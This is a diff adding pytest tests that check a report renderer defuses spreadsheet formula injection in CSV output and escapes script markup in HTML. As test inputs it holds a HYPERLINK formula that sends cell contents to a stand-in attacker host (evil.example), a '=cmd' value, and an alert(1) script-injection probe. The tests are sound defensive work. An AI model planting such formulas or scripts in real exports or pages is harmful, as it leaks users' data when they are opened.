@@ -113,3 +113,24 @@ def test_html_report_escapes_markup_and_controls_and_has_no_script():
     assert "<script" not in page and "&lt;/script&gt;&lt;script&gt;alert(1)" in page
     assert "<!--" not in page, "no comment can swallow the rest of the page"
     assert f'data-label="{html.escape(printable(hostile_report().people[0][0]))}"' in page
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
+def test_csv_defuses_texts_a_spreadsheet_would_run_and_keeps_numbers(start):
+    text = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
+    out = render(["title", "n", "x"], [[text, -3, -1.5]], "csv")
+    [header, (title, n, x)] = list(csv.reader(io.StringIO(out)))
+    assert header == ["title", "n", "x"] and (n, x) == ("-3", "-1.5")
+    assert title.startswith("'") and not title.startswith("'" + "'")
+    assert title[1:] == printable(text, keep_lines=True)
+    assert orjson.loads(render(["title"], [[text]], "json")) == [{"title": text}]
+
+
+def test_csv_a_leading_carriage_return_is_shown_escaped_which_no_spreadsheet_runs():
+    out = render(["title"], [["\r=cmd"]], "csv")
+    assert list(csv.reader(io.StringIO(out)))[1] == ["\\r=cmd"]
+
+
+def test_csv_leaves_other_text_and_headers_alone_but_defuses_a_formula_header():
+    out = render(["=cmd", "ok"], [["a = b", "x-y"]], "csv")
+    assert list(csv.reader(io.StringIO(out))) == [["'=cmd", "ok"], ["a = b", "x-y"]]
